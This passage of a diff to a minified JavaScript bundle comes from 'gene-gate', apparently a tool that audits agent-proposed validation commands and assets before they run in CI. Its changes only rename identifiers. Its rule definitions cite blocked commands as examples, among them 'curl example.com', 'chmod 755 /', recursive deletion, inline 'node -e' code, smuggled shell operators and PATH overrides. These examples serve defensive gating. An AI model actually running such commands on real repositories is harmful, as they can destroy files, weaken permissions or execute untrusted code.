 le.slice(0,ue),M=le.slice(ue)):ne===!0?(je="",M=le):je=le,je&&je!==""&&je!=="/"&&je!==le&&b(je.charCodeAt(je.length-1))&&
@@ -498,7 +498,7 @@ r findings afterwards, or no fewer, so it is not rewritten.",remedy:"Resolve the
 append-only",message:"The audit log is append-only and is never rewritten.",remedy:"Append a correct event."}),unsureText:()=>({
 id:"file-in-doubt",message:"The content of the file is ambiguous, so nothing in it is rewritten.",remedy:"Fix the errors\
  that the audit reports about the file, and run `gene-gate fix` again."})};function c(l){return{id:l.rule,title:(0,s.Y)(
-l.rule)?.title,...(0,r.q0)(l)}}},56:function(t,e,n){n.d(e,{Y:()=>_y});var s=n(442);function r(p){return w=>({severity:p,
+l.rule)?.title,...(0,r.q0)(l)}}},56:function(t,e,n){n.d(e,{Y:()=>wy});var s=n(442);function r(p){return w=>({severity:p,
 ...w})}const i=r("error"),o=r("warning"),a=r("notice");function c(p,w,A,J){const ye=Object.entries(A).map(([bt,Ct])=>[bt,
 {id:bt,layer:p,...J&&{profile:J},harm:Ct.severity==="error"?w:"bookkeeping",...Ct,message:l(Ct.message),remedy:l(Ct.remedy)}]);
 return Object.fromEntries(ye)}function l(p){return typeof p!="string"?p:w=>p.replace(/\{(\w+)\}/g,(A,J)=>{const ye=w[J]??
@@ -661,7 +661,7 @@ ot judged again, but from now on they are what validates. The gate runs none of 
 blocks.",wrong:{base:{"assets/gep/genes.seed.json":[G({validation:["curl example.com"]})]},head:{[P]:[G({validation:["cu\
 rl example.com"]})]}},right:{base:{"assets/gep/genes.seed.json":[G()]},head:{[P]:[G()]}},message:"The gene `{gene}` move\
 s from a seed file into the store, but its command `{command}` is blocked.",remedy:"Correct the validation commands of t\
-he gene, or leave it in the seed file."})}),R=`assets:
+he gene, or leave it in the seed file."})}),N=`assets:
   include: ['**/assets/gep/genes*.json', 'lib/*-genes.json']`,Ae=`assets:
   max_file_bytes: 800
 `;function Le(...p){const w={"assets/gep/genes_b.json":p.map(A=>G({id:A}))};return{base:w,head:{...ne({id:"gene_a"}).head,
@@ -725,8 +725,8 @@ ther asset files is not read, for example because it is too large, a reference t
 ase `assets.max_file_bytes` in the policy on the base branch."}),"outside-globs":o({title:"Gene in a file that is not an\
  asset file",why:"Only files that match `assets.include` in the policy are audited. Nobody judges the commands and the l\
 imits of a gene in another file. In a test fixture that is harmless, and the policy can ignore it there.",wrong:{head:{"\
-lib/extra-genes.json":[G()]}},right:{head:{"lib/extra-genes.json":[G()]},policy:`${R}
-`},configure:R,message:"The file may contain assets but is not audited: {detail}.",remedy:"If an engine reads this file,\
+lib/extra-genes.json":[G()]}},right:{head:{"lib/extra-genes.json":[G()]},policy:`${N}
+`},configure:N,message:"The file may contain assets but is not audited: {detail}.",remedy:"If an engine reads this file,\
  add it to `assets.include` in the policy."})}),M=`blast_radius:
   protected_paths: ['AGENTS.md', 'config/prod/**']
 `,it={"AGENTS.md":`Run the tests.
@@ -851,7 +851,7 @@ allow_dangerous: true`,qt=`profile: curated
 allowed_roots: [/srv/app]`,nn=`profile: curated
 families:
   - name: make
-    sandbox: { forms: { test: {} }, match: [make test], not_match: [make] }`,RC=`profile: curated
+    sandbox: { forms: { test: {} }, match: [make test], not_match: [make] }`,IC=`profile: curated
 families:
   - name: tee
     sandbox: { risk: write, warnings: [writes_files], match: [tee out.txt], not_match: [tee --append out.txt] }`;function Tn(p,w,A){
@@ -862,7 +862,7 @@ nly one command is validated. An operator makes a shell run a second one, insert
 o operand names. In the operands of archives, operators are blocked even inside quotes, which people and tools that pass\
  them on can lose.",wrong:A,right:"tar -tf a.tar",message:({operator:J})=>`The command contains a blocked shell operator\
  (${p}): \`${J}\`.`,remedy:"Write a single command without shell operators."})}const pn={right:"cat notes.md",remedy:"Co\
-nfirm that this is intended."},NC=c("policy","broken",{no_command:i({title:"Command is missing",why:"The curated validat\
+nfirm that this is intended."},$C=c("policy","broken",{no_command:i({title:"Command is missing",why:"The curated validat\
 or validates the command of a proposal. Without a command, it has nothing to accept.",wrong:"",right:"cat notes.md",message:"\
 The proposal has no command to validate.",remedy:"Write a command."}),parse_failed:i({title:"Command cannot be parsed",why:"\
 Text that a shell cannot split into words has no meaning that can be validated.",wrong:'tar -tf "release.tar',right:"tar\
@@ -921,11 +921,11 @@ command:"rm -r build",policy:St},message:"Recursive deletion removes a directory
 {...pn,harm:"danger",title:"Command changes permissions or owners of the entire system",why:"A change at the root affect\
 s every file.",wrong:{command:"chmod 755 /",policy:St},message:"This command changes permissions or owners of a broad ta\
 rget."}),writes_files:o({writes:!0,...pn,title:"Command writes files",why:"The command changes the workspace or the mach\
-ine.",wrong:{command:"tee out.txt",policy:RC},message:"This command writes files."}),experimental_mode:o({...pn,title:"P\
+ine.",wrong:{command:"tee out.txt",policy:IC},message:"This command writes files."}),experimental_mode:o({...pn,title:"P\
 roposal is experimental",why:"Experimental proposals pass the same checks and require the strongest confirmation. This w\
 arning alone does not change the verdict from allow to warn.",wrong:{command:"cat notes.md",context:{proposal_mode:"expe\
-rimental"}},message:"Experimental mode requires very strong confirmation."})},"`curated`");function FC(){const p={capsule_id:"\
-capsule_1"},w=ve({id:"evt_2",...p,parent:"evt_1"});return{candidates:[ue()],events:[ve({id:"evt_1",...p}),w]}}const LC=c(
+rimental"}},message:"Experimental mode requires very strong confirmation."})},"`curated`");function NC(){const p={capsule_id:"\
+capsule_1"},w=ve({id:"evt_2",...p,parent:"evt_1"});return{candidates:[ue()],events:[ve({id:"evt_1",...p}),w]}}const RC=c(
 "asset","bookkeeping",{"capsule-not-eligible":i({counted:["why"],title:"Capsule is not one that is offered to other agen\
 ts",why:"Other agents receive only solutions that worked well, and that are small and safe: `outcome.status` is `success\
 `, `outcome.score` is at least `min_score` (0.7), and `blast_radius` has at most `max_files` files (5) and `max_lines` l\
@@ -942,16 +942,16 @@ sule (`capsule_id`) from the newest to the oldest and counts the successes befor
 t be at least `min_success_streak` of the policy (2). The `success_streak` of the Capsule is a claim and does not count.\
  A success counts only if it is evidence: it was in the log before the change that is judged, the hash of its content is\
  in `asset_id`, no earlier event with other content has its `id`, its `parent` is in the log before it, and it names the\
- gene of the Capsule in `genes_used`.",wrong:{candidates:[ue({success_streak:9})],events:[]},right:{...FC(),candidates:[
+ gene of the Capsule in `genes_used`.",wrong:{candidates:[ue({success_streak:9})],events:[]},right:{...NC(),candidates:[
 ue({success_streak:2})]},configure:`a2a:
   min_success_streak: 2`,message:({capsule:p,streak:w,least:A,uncounted:J})=>`The Capsule \`${p}\` is not eligible: the e\
 vents show ${w} consecutive ${w===1?"success":"successes"}, but the policy requires ${A}${J.map(ye=>`; ${ye}`).join("")}\
-.`,remedy:"Apply the Capsule again, and append the complete events of its cycles to the log."})}),dr=Pe(...Array.from({length:9},
-(p,w)=>({id:`evt_${w+1}`,...w>0&&{parent:`evt_${w}`},capsule_id:"capsule_1"}))).head;function Br(p,w){return{head:{[z]:[
-ue(p)],...w}}}function qc(p,w={}){const J={protocol:"gep-a2a",message_type:"publish",sender_id:"node_7",...w,payload:{...p,
+.`,remedy:"Apply the Capsule again, and append the complete events of its cycles to the log."})}),ur=Pe(...Array.from({length:9},
+(p,w)=>({id:`evt_${w+1}`,...w>0&&{parent:`evt_${w}`},capsule_id:"capsule_1"}))).head;function lr(p,w){return{head:{[z]:[
+ue(p)],...w}}}function Wc(p,w={}){const J={protocol:"gep-a2a",message_type:"publish",sender_id:"node_7",...w,payload:{...p,
 asset:{type:"Mutation",id:"mut_1",category:"repair",trigger_signals:["log_error"],target:"gene:gene_a",expected_effect:"\
 The error is gone.",risk_level:"low"}}};return`${JSON.stringify(J,null,2)}
-`}const PC=c("asset","bookkeeping",{"event-parent-missing":i({instance:["fix"],group:"log",unproven:!0,title:"Parent of \
+`}const FC=c("asset","bookkeeping",{"event-parent-missing":i({instance:["fix"],group:"log",unproven:!0,title:"Parent of \
 an event does not exist",why:"`parent` names the previous event. If no asset file contains it, the log has a gap: a cycl\
 e was omitted, or the event was written by hand. An event that is appended to an audit log has its parent there; in a pr\
 omotion, it is there or among the candidates. For the first event of a log, whose history may be elsewhere, and outside \
@@ -980,26 +980,26 @@ evidence",title:"Claim of an asset differs from what the change or the events sh
 t radius and `success_streak`, and an event estimates what it will edit. The gate compares these claims with git and wit\
 h the events. A blast radius below every way of counting is a warning, and one above all changed files and lines is a no\
 tice; the claims of one change are added up. An estimate differs if the change touches more than three times as many fil\
-es, or fewer than a tenth.",wrong:Br({blast_radius:{files:1,lines:1}},{"src/<1-3>.js":`work();
-`}),right:Br({blast_radius:{files:3,lines:3}},{"src/<1-3>.js":`work();
+es, or fewer than a tenth.",wrong:lr({blast_radius:{files:1,lines:1}},{"src/<1-3>.js":`work();
+`}),right:lr({blast_radius:{files:3,lines:3}},{"src/<1-3>.js":`work();
 `}),message:"The {type} `{id}` {claim}, but {shown}.",remedy:"{fix}."}),"claim-not-checked":o({counted:["why"],unproven:!0,
 group:"evidence",title:"Claim could not be checked, because a log was not read completely",why:"Of an audit log, the new\
 est records up to `assets.max_file_bytes` are read. If they do not decide a claim, the gate says so, instead of counting\
- what it did not read as missing. A Capsule is not eligible for promotion until its successes are counted.",wrong:{base:dr,
-...Br({success_streak:9},dr),policy:`assets:
+ what it did not read as missing. A Capsule is not eligible for promotion until its successes are counted.",wrong:{base:ur,
+...lr({success_streak:9},ur),policy:`assets:
   max_file_bytes: 1500
-`},right:{base:dr,...Br({success_streak:9},dr)},configure:`assets:
+`},right:{base:ur,...lr({success_streak:9},ur)},configure:`assets:
   max_file_bytes: 67108864`,message:"The gate could not check {claim}. It read {why}.",remedy:"Increase `assets.max_file\
 _bytes` in the policy on the base branch."}),"envelope-contradicts-asset":i({otherAsset:!0,title:"Message or wrapper con\
 tradicts the asset that it contains",why:"A message between agents, and each entry in the answer of a hub, says beside t\
 he asset which asset it is: `asset_id`, `content_hash`, `asset_type`, `type` or `local_id`. If this differs from the ass\
 et, one of the two was edited, or they are about different assets. Readers that trust different parts of it would accept\
- different assets.",wrong:{head:{[P]:qc({local_id:"mut_other"})}},right:{head:{[P]:qc({local_id:"mut_1"})}},message:"The\
+ different assets.",wrong:{head:{[P]:Wc({local_id:"mut_other"})}},right:{head:{[P]:Wc({local_id:"mut_1"})}},message:"The\
  object that contains the {type} `{id}` states `{field}` {stated}, but the asset has {actual}.",remedy:"Request the asse\
-t again from its sender."})}),jC=new Set(["bun","deno","python","python3"]),Vc={policy:`programs: [make]
+t again from its sender."})}),LC=new Set(["bun","deno","python","python3"]),qc={policy:`programs: [make]
 `,files:{Makefile:`test:
 	node scripts/check.js
-`}};function Qi(p,w){return w===""?`\`${p}\``:`\`${p} ${w}\``}const MC=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,GC=c(
+`}};function Qi(p,w){return w===""?`\`${p}\``:`\`${p} ${w}\``}const PC=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,jC=c(
 "invocation","broken",{"unknown-flag":i({title:"Flag is unknown",why:"A flag decides what runs, and an unknown flag may \
 take the next word as its value. It can be newer than the tables of the gate, or misspelled. Of npm, only the flags that\
  say which scripts run, and how much it prints, are known: npm 10 and 11 discard or complete one that they do not have, \
@@ -1018,9 +1018,9 @@ removable:!0,title:"Command runs code that is no file of the commit",why:"Inline
 ins and configuration from elsewhere, and programs that a tool starts are not read as the code of the commit is. What op\
 ens a debugger or a shell runs whatever is sent to it.",wrong:`node -e "require('./check')"`,right:"node scripts/validat\
 e/check.cjs",message:({program:p,flag:w})=>w===p||/['"`]/.test(w)?`\`${p}\` starts other code than files of the commit.`:
-`${Qi(p,w)} runs code that is no file of the commit.`,remedy:({program:p,flag:w})=>w.startsWith("-")&&!MC.test(w)?`Remov\
+`${Qi(p,w)} runs code that is no file of the commit.`,remedy:({program:p,flag:w})=>w.startsWith("-")&&!PC.test(w)?`Remov\
 e \`${w}\`: keep code and configuration in files of the commit that the program finds by itself.`:`Move the code into a \
-script in the repository, and run it with \`${jC.has(p)?p:"node"}\`; write what is started as a command of its own.`}),"\
+script in the repository, and run it with \`${LC.has(p)?p:"node"}\`; write what is started as a command of its own.`}),"\
 uses-network":i({harm:"danger",removable:!0,title:"Command downloads, installs, publishes, or asks a server",why:"What a\
  server answers changes over time, and an installation runs scripts of packages. npx downloads and runs a package that i\
 t does not find, and a version, tag, path, or address names something to download. A validation command only reads; it h\
@@ -1060,8 +1060,8 @@ he program runs whatever it receives.",wrong:"node -",right:"node scripts/check.
 ""?"The command":`\`${w}\``} makes \`${p}\` read code from standard input.`,remedy:"Name a script in the repository."}),
 "make-variable":i({harm:"danger",title:"Command sets a variable of the build files",why:"A variable on the command line \
 replaces the one of the Makefile, becomes part of shell text, and is in the environment of every recipe: it can name the\
- program that runs, or the path on which programs are found.",wrong:{...Vc,command:"make test PATH=tools:/usr/bin"},right:{
-...Vc,command:"make test V=1",also:{"build-files-unread":"The Makefile decides what runs."}},configure:"make_variables: \
+ program that runs, or the path on which programs are found.",wrong:{...qc,command:"make test PATH=tools:/usr/bin"},right:{
+...qc,command:"make test V=1",also:{"build-files-unread":"The Makefile decides what runs."}},configure:"make_variables: \
 [TESTS]",message:"`{program} {variable}=\u2026` sets a variable for the build files and the programs that they start.",remedy:"\
 Set `{variable}` in the build file, or allow it with `make_variables: [{variable}]` in the policy of the base branch."}),
 "only-prints":o({title:"Command only prints information",why:"The command does not check the change, so it passes whatev\
@@ -1088,14 +1088,14 @@ jobs:
     steps:
       - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
       - uses: gene-gate/gene-gate@63a8eb7b1989eae6dc40680f790cf1bbb629a298
-`;function Yc(p){return{base:p,head:{...p,"src/index.js":`work();
-`}}}const HC=ns.replace("- uses: gene",`- run: ./setup.sh
-      - uses: gene`),Xc={base:{[Gt]:`fail_on: warning
+`;function Vc(p){return{base:p,head:{...p,"src/index.js":`work();
+`}}}const MC=ns.replace("- uses: gene",`- run: ./setup.sh
+      - uses: gene`),Yc={base:{[Gt]:`fail_on: warning
 `},head:{[Gt]:`fail_on: error
-`}},zC={"AGENTS.md":`<!-- gene-gate:begin v1 -->
+`}},GC={"AGENTS.md":`<!-- gene-gate:begin v1 -->
 Do not add ignores.
 <!-- gene-gate:end -->
-`},UC={"protected-path":"The default list protects agent instructions."},Qc=`profile: curated
+`},HC={"protected-path":"The default list protects agent instructions."},Xc=`profile: curated
 mode: dangerous
 allow_dangerous: true
 families:
@@ -1105,21 +1105,21 @@ families:
       forms: { scripts/check.js: {} }
       match: ['node scripts/check.js']
       not_match: ['node scripts/other.js']
-`,eu=50;function to(p){const w=p.length-eu;return`${p.slice(0,eu).join("; ")}${w>0?`; and ${w} more`:""}`}const tu=12;function JC(p){
-const w=p.length-tu;return`${(0,s.p)(p.slice(0,tu))}${w>0?`, and ${w} more lines`:""}`}function nu(p,w,A,J){return w==="\
+`,Qc=50;function to(p){const w=p.length-Qc;return`${p.slice(0,Qc).join("; ")}${w>0?`; and ${w} more`:""}`}const eu=12;function zC(p){
+const w=p.length-eu;return`${(0,s.p)(p.slice(0,eu))}${w>0?`, and ${w} more lines`:""}`}function tu(p,w,A,J){return w==="\
 review"?`Ask ${p===1?"a person":no(p)} with write access, other than the author, to approve the pull request with a revi\
 ew that contains the line \`/gene-gate approve\`${J&&`, or \`/gene-gate approve ${J}\` for exactly this digest`}.`:`If ${A}\
-, run the gate again with \`--approve=${J}\`.`}function ZC(p){return p.length===0?"no setting changes":`these settings c\
-hange after the merge: ${to(p)}`}function KC([p,...w]){return w.length===0?`\`${p}\` requires`:`\`${p}\` and ${w.length}\
- more of its commands require`}function su(p,w){if(p===1)return"";const A=w===1?"one has":`${w} have`;return w===0?` fro\
-m ${no(p)}`:` from ${no(p)}, and ${A} approved`}function no(p){return p===2?"two people":`${p} people`}const ru=3;function iu(p){
-if(p.length===0)return"";const w=p.length-ru;return`; not counted: ${p.slice(0,ru).join("; ")}${w>0?`; and ${w} more`:""}`}
-function WC(p,w){return`ignores:
+, run the gate again with \`--approve=${J}\`.`}function UC(p){return p.length===0?"no setting changes":`these settings c\
+hange after the merge: ${to(p)}`}function JC([p,...w]){return w.length===0?`\`${p}\` requires`:`\`${p}\` and ${w.length}\
+ more of its commands require`}function nu(p,w){if(p===1)return"";const A=w===1?"one has":`${w} have`;return w===0?` fro\
+m ${no(p)}`:` from ${no(p)}, and ${A} approved`}function no(p){return p===2?"two people":`${p} people`}const su=3;function ru(p){
+if(p.length===0)return"";const w=p.length-su;return`; not counted: ${p.slice(0,su).join("; ")}${w>0?`; and ${w} more`:""}`}
+function ZC(p,w){return`ignores:
   - rule: ${p}
     where: { gene: gene_a }
     reason: The engine writes it from its next release on.
     expires: ${w}-12-31
-`}const qC=c("policy","broken",{"policy-changed":a({shownWhole:!0,title:"Change edits the policy; the policy of the base\
+`}const KC=c("policy","broken",{"policy-changed":a({shownWhole:!0,title:"Change edits the policy; the policy of the base\
  branch applies",why:"The policy is always read from the base branch, so a change cannot allow its own content. An edit \
 of the policy applies from the next change on. The finding lists the keys that change, their old and new values, and whe\
 ther each change allows more or less, where this is known.",wrong:{base:{[Gt]:`limits:
@@ -1129,7 +1129,7 @@ ther each change allows more or less, where this is known.",wrong:{base:{[Gt]:`l
 `,[P]:[G()]}},right:{head:{[P]:[G()]},policy:`limits:
   command_timeout_seconds: 600
 `},message:({path:p,effects:w})=>`The change edits the policy \`${p}\`; the policy of the base branch applies to this cha\
-nge, and ${ZC(w)}.`,remedy:"Merge the policy first, and then the change that needs it."}),"policy-broken":i({actor:"huma\
+nge, and ${UC(w)}.`,remedy:"Merge the policy first, and then the change that needs it."}),"policy-broken":i({actor:"huma\
 n",title:"Policy in the change is not valid",why:"The policy of the base branch applies to this change. After the merge,\
  the new policy applies to every change, and the gate never passes with a policy that it cannot read. A change that fixe\
 s the policy could not pass either. The policy is the regular file `.github/gene-gate.yml` and nothing else: with anothe\
@@ -1161,7 +1161,7 @@ or an installation before the gate takes its files from the change; so does a pa
 rts the gate, as `npx gene-gate` in the checkout. Every report says so once, until the workflow is changed. A change of \
 a file whose path stands in such a step, of the local action, or of what the package manager reads (package.json, lockfi\
 les, settings) needs a person ([`gate-weakened`](gate-weakened.md)). What these files read or start in turn is not follo\
-wed. See [the required check](../required-check.md#what-each-set-up-leaves-open).",wrong:Yc({[ts]:HC}),right:Yc({[ts]:ns}),
+wed. See [the required check](../required-check.md#what-each-set-up-leaves-open).",wrong:Vc({[ts]:MC}),right:Vc({[ts]:ns}),
 message:({steps:p,startsGate:w})=>`A change can decide what the gate runs with: ${to(p)} ${p.length===1?"takes its":"tak\
 e their"} files from the change, ${w?"and starts the gate":"before the gate"}.`,remedy:({startsGate:p})=>p?"Use the acti\
 on at a commit, or start a pinned version outside of the checkout.":"Give the gate a job of its own, or publish its resu\
@@ -1170,16 +1170,16 @@ Block of gene-gate in the agent instructions is edited or out of date",why:"The 
 tes into `AGENTS.md` (and, on request, `CLAUDE.md` and the rules of Cursor) tells agents what the gate accepts and what \
 they must not do. An edit of the block, its removal, or a fence, comment or fold around it is shown with its lines; a bl\
 ock of another version is a notice. Instructions protect nothing: the gate decides in the same way without them, so nobo\
-dy has to approve the edit.",wrong:{base:zC,head:{"AGENTS.md":`# Agents
+dy has to approve the edit.",wrong:{base:GC,head:{"AGENTS.md":`# Agents
 `}},right:{head:{"AGENTS.md":`# Agents
-`},also:UC},message:({path:p,effect:w,lines:A})=>`The block of gene-gate in \`${p}\` ${w}${A.length>0?`: ${JC(A)}`:""}.`,
+`},also:HC},message:({path:p,effect:w,lines:A})=>`The block of gene-gate in \`${p}\` ${w}${A.length>0?`: ${zC(A)}`:""}.`,
 remedy:"Run `gene-gate init --agents`, and commit the file."}),"gate-approval-missing":o({approval:"waits",harm:"danger",
 actor:"human",counted:["weakens","runs"],title:"Change of the gate waits for approval",why:"A change that weakens the ga\
 te needs the approval of as many people as `approvals.gate` of the base policy says, given as for a command: see [approv\
 als](../approvals.md). With `agent_files.level: approve`, so does a change that makes machines run something else.",wrong:{
-...Xc,approvedBy:["author"]},right:{...Xc,approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:({
+...Yc,approvedBy:["author"]},right:{...Yc,approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:({
 needed:p,given:w,refusals:A,weakens:J,runs:ye})=>`The change ${[...J?["weakens the gate"]:[],...ye?["makes machines run \
-something else"]:[]].join(", ")} and waits for approval${su(p,w)}${iu(A)}.`,remedy:({needed:p,means:w,digest:A,weakens:J})=>nu(
+something else"]:[]].join(", ")} and waits for approval${nu(p,w)}${ru(A)}.`,remedy:({needed:p,means:w,digest:A,weakens:J})=>tu(
 p,w,J?"the gate may become weaker as described":"machines may run this",A)}),"input-loosens-policy":o({harm:"danger",actor:"\
 human",title:"Action input that loosens the policy is ignored",why:"On a pull request, the workflow file comes from the \
 change itself, so its inputs can only tighten the policy of the base branch. An input that allows more is ignored. A pro\
@@ -1191,7 +1191,7 @@ ver`.",wrong:{head:{},inputs:{"command-timeout-seconds":3600}},right:{head:{},po
 ption in the policy has no effect",why:"A policy can soften warnings, and errors about what an asset claims or how much \
 it touches. It cannot soften what protects the machine. An ignore, or a level with `until`, is temporary: after its last\
  day the finding counts again, and the exception is reported until the cause is fixed or a person sets a new date. An ig\
-nore that covers nothing hides the next finding of its rule.",wrong:{...ne({validation:['node -e "1"']}),policy:WC("outs\
+nore that covers nothing hides the next finding of its rule.",wrong:{...ne({validation:['node -e "1"']}),policy:ZC("outs\
 ide-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:eo,message:"{exception} in the \
 policy has no effect: {refusal}.",remedy:"Fix what the rule reports and remove the exception, or correct its rule or dat\
 e."}),"approval-missing":a({approval:"waits",actor:"human",title:"Gene waits for approval",why:"The policy allows these \
@@ -1199,18 +1199,18 @@ commands only after approval: strong confirmation is for dangerous commands and 
 firmation is for experimental commands and requires two, unless `approvals` in the policy sets other numbers. No command\
  of the gene runs before the approval, and the verdict is `needs_approval`. An approval applies to the files of the head\
 , the base branch, the commands and the policy, so every push ends it, unless it changes only files that `approvals.unaf\
-fected_by` in the policy names; a base branch that moves on does not. See [approvals](../approvals.md).",wrong:{...eo,policy:Qc,
-approvedBy:["author"]},right:{...eo,policy:Qc,approvedBy:["alice"]},configure:`A policy whose profile does not require c\
+fected_by` in the policy names; a base branch that moves on does not. See [approvals](../approvals.md).",wrong:{...eo,policy:Xc,
+approvedBy:["author"]},right:{...eo,policy:Xc,approvedBy:["alice"]},configure:`A policy whose profile does not require c\
 onfirmation, such as evolver, waits only for scripts that nobody can read.
 A gene whose commands are neither dangerous nor experimental, and run no such script, never waits.`,message:({gene:p,confirmation:w,
-needed:A,given:J,commands:ye,refusals:bt})=>`The gene \`${p}\` waits for approval: ${KC(ye)} ${w} confirmation${su(A,J)}${iu(
-bt)}.`,remedy:({needed:p,means:w,digest:A})=>nu(p,w,"these commands may run with the files of this commit",A)})});function VC(p=[]){
-const w=["node","npm","npx",...p].map(A=>`\`${A}\``);return`${w.slice(0,-1).join(", ")}, and ${w.at(-1)}`}const YC=new Set(
-": cd echo exit export false printf pwd return set true umask unset wait".split(" "));function XC(p){return`Move what \`${p}\
-\` does into a Node script and run it with \`node\``}const QC=/^(?:interpreter|builder|manager|other)$/,ey=/^[A-Za-z][\w.+-]*$/;
-function ou({program:p,group:w="",offered:A="",word:J=""}){const ye="in the policy of the base branch";return A!==""?`, \
-or ${J===""?"":`write \`${J}\` and `}add \`${A}\` to \`programs\` ${ye}`:QC.test(w)&&ey.test(p)?`, or describe the progr\
-am with \`families\` and add it to \`programs\` ${ye}`:""}const ty=c("program","broken",{"command-not-text":i({anyText:!0,
+needed:A,given:J,commands:ye,refusals:bt})=>`The gene \`${p}\` waits for approval: ${JC(ye)} ${w} confirmation${nu(A,J)}${ru(
+bt)}.`,remedy:({needed:p,means:w,digest:A})=>tu(p,w,"these commands may run with the files of this commit",A)})});function WC(p=[]){
+const w=["node","npm","npx",...p].map(A=>`\`${A}\``);return`${w.slice(0,-1).join(", ")}, and ${w.at(-1)}`}const qC=new Set(
+": cd echo exit export false printf pwd return set true umask unset wait".split(" "));function VC(p){return`Move what \`${p}\
+\` does into a Node script and run it with \`node\``}const YC=/^(?:interpreter|builder|manager|other)$/,XC=/^[A-Za-z][\w.+-]*$/;
+function iu({program:p,group:w="",offered:A="",word:J=""}){const ye="in the policy of the base branch";return A!==""?`, \
+or ${J===""?"":`write \`${J}\` and `}add \`${A}\` to \`programs\` ${ye}`:YC.test(w)&&XC.test(p)?`, or describe the progr\
+am with \`families\` and add it to \`programs\` ${ye}`:""}const QC=c("program","broken",{"command-not-text":i({anyText:!0,
 title:"Validation command is not a string",why:"Each entry of `validation` is one command line. Engines that convert oth\
 er values to text run a command that was never written: a nested list becomes its joined entries.",wrong:{command:["node\
  scripts/check.js"]},right:"node scripts/check.js",message:"A validation command must be a string, but this one has the \
@@ -1223,7 +1223,7 @@ d the gate locates them itself. A path can point to any file.",wrong:"./node_mod
 src",counted:["offered","word"],message:"The program `{program}` is a path; only `node`, `npm`, and `npx` are allowed.",
 remedy:({program:p,offered:w="",word:A=""})=>/(?:^|[\\/])node_modules[\\/]\.bin[\\/]/.test(p)?"Run the tool by its name,\
  without its path.":/\.[cm]?[jt]s$/.test(p)?"Run the script with `node`.":`Move the work into a Node script and run it w\
-ith \`node\`${ou({program:p,offered:w,word:A})}.`}),"program-look-alike":i({harm:"danger",title:"Program name does not m\
+ith \`node\`${iu({program:p,offered:w,word:A})}.`}),"program-look-alike":i({harm:"danger",title:"Program name does not m\
 atch exactly",why:"On Windows or a file system that ignores case, `NODE` or `node.exe` can be a different file than `nod\
 e`. Program names are compared exactly.",wrong:"Node scripts/check.js",right:"node scripts/check.js",message:"`{program}\
 ` is not `{meant}`; program names must match exactly.",remedy:"Write the name of the program as `{meant}`."}),"program-n\
@@ -1231,17 +1231,17 @@ ot-allowed":i({title:"Program is not allowed",why:"Validation runs on unattended
 available on all of them, and the gate understands every argument of these programs. A policy can allow other programs b\
 y name, with `programs`. Move anything else into a Node script.",wrong:"bash scripts/check.sh",right:"node scripts/check\
 .js",configure:"programs: [pytest, cargo]",counted:["offered","word","allowed"],message:({program:p,allowed:w})=>`\`${p}\
-\` is not an allowed program; only ${VC(w)} are allowed.`,remedy:p=>p.group==="npx"?`Add the package of \`${p.program}\` \
-to \`devDependencies\` and the lockfile, and run it with \`npx\`.`:YC.has(p.program)?`Write a command that fails if some\
-thing is wrong, such as \`node scripts/check.js\`; \`${p.program}\` checks nothing.`:`${XC(p.program)}${ou(p)}.`})},"`ev\
-olver` and `validator`"),au={gene:"gene_b"},cu={status:"success",score:.9,notes:"It went well."},uu=[ve({genes_used:["ge\
-ne_b"],capsule_id:"capsule_1"}),ve({id:"evt_2",parent:"evt_1",genes_used:["gene_b"],capsule_id:"capsule_1"})],lu={files:ne(
-{summary:"Another one."}).head},du="assets/gep/genes_revoked.json";function Bu(p){return`${JSON.stringify({...{protocol:"\
+\` is not an allowed program; only ${WC(w)} are allowed.`,remedy:p=>p.group==="npx"?`Add the package of \`${p.program}\` \
+to \`devDependencies\` and the lockfile, and run it with \`npx\`.`:qC.has(p.program)?`Write a command that fails if some\
+thing is wrong, such as \`node scripts/check.js\`; \`${p.program}\` checks nothing.`:`${VC(p.program)}${iu(p)}.`})},"`ev\
+olver` and `validator`"),ou={gene:"gene_b"},au={status:"success",score:.9,notes:"It went well."},cu=[ve({genes_used:["ge\
+ne_b"],capsule_id:"capsule_1"}),ve({id:"evt_2",parent:"evt_1",genes_used:["gene_b"],capsule_id:"capsule_1"})],uu={files:ne(
+{summary:"Another one."}).head},lu="assets/gep/genes_revoked.json";function du(p){return`${JSON.stringify({...{protocol:"\
 gep-a2a",message_type:"revoke",sender_id:"node_7"},payload:{target_local_id:p,reason:"It deletes files."}},null,2)}
-`}const Ds={candidates:[G()],reports:[Fe()]},ny=c("promotion","bookkeeping",{"asset-revoked":i({harm:"danger",title:"Ass\
+`}const vs={candidates:[G()],reports:[Fe()]},ey=c("promotion","bookkeeping",{"asset-revoked":i({harm:"danger",title:"Ass\
 et is revoked",why:"A message of the type `revoke` withdraws a published asset. An asset that a message among the candid\
 ates or in the repository revokes is refused. If the repository already has the asset, the answer lists it in `revoked`.",
-wrong:{candidates:[G()],files:{[du]:Bu("gene_a")}},right:{candidates:[G()],files:{[du]:Bu("gene_other")}},message:({type:p,
+wrong:{candidates:[G()],files:{[lu]:du("gene_a")}},right:{candidates:[G()],files:{[lu]:du("gene_other")}},message:({type:p,
 id:w,by:A,why:J})=>`The ${p} \`${w}\` is revoked by \`${A}\`${J===""?"":`: ${J}`}.`,remedy:"Remove the asset where it is\
  used, and ask its author for another version."}),"unsafe-validation-command":i({harm:"danger",title:"Candidate has a va\
 lidation command that is not allowed",why:"If you promote a gene, its commands run in your repository from then on. A co\
@@ -1256,20 +1256,20 @@ at least one non-empty step to `strategy`."}),"id-unusable":i({title:"Id of a ca
 ts and other assets name an asset by its id. Control characters in it hide text or change its order, and nobody compares\
  ids of more than 200 characters. The repository keeps its own assets: a candidate never replaces an asset that has the \
 same id and different content, as in the reference engine. Of two candidates with the same id, the first is kept.",wrong:{
-candidates:[G()],...lu},right:{candidates:[G({id:"gene_a_from_agent_7"})],...lu},message:"The id of the {type} `{id}` {w\
+candidates:[G()],...uu},right:{candidates:[G({id:"gene_a_from_agent_7"})],...uu},message:"The id of the {type} `{id}` {w\
 hy}.",remedy:"Ask the author for the asset with another id, or rename it and hash it again to keep both."}),"fields-not-\
